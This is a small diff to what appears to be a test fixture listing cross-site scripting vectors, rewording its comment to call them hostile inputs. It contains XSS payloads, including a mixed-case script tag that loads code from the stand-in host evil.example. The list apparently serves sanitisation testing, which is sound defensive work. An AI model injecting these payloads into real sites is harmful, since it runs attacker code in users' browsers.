@@ -1,6 +1,6 @@
 const RUN = "window.__xss=1";
 
-/** What customers and other systems may send where a name or a text belongs. Every element carries `data-xss`, every script sets `__xss`. */
+/** Hostile values that customers and other systems may send as a name or a text. Every element carries `data-xss`, every script sets `__xss`. */
 export const VECTORS = [
   `<script data-xss>${RUN}</script>`,
   `<ScRiPt data-xss src=//evil.example/x.js></sCrIpT>`,
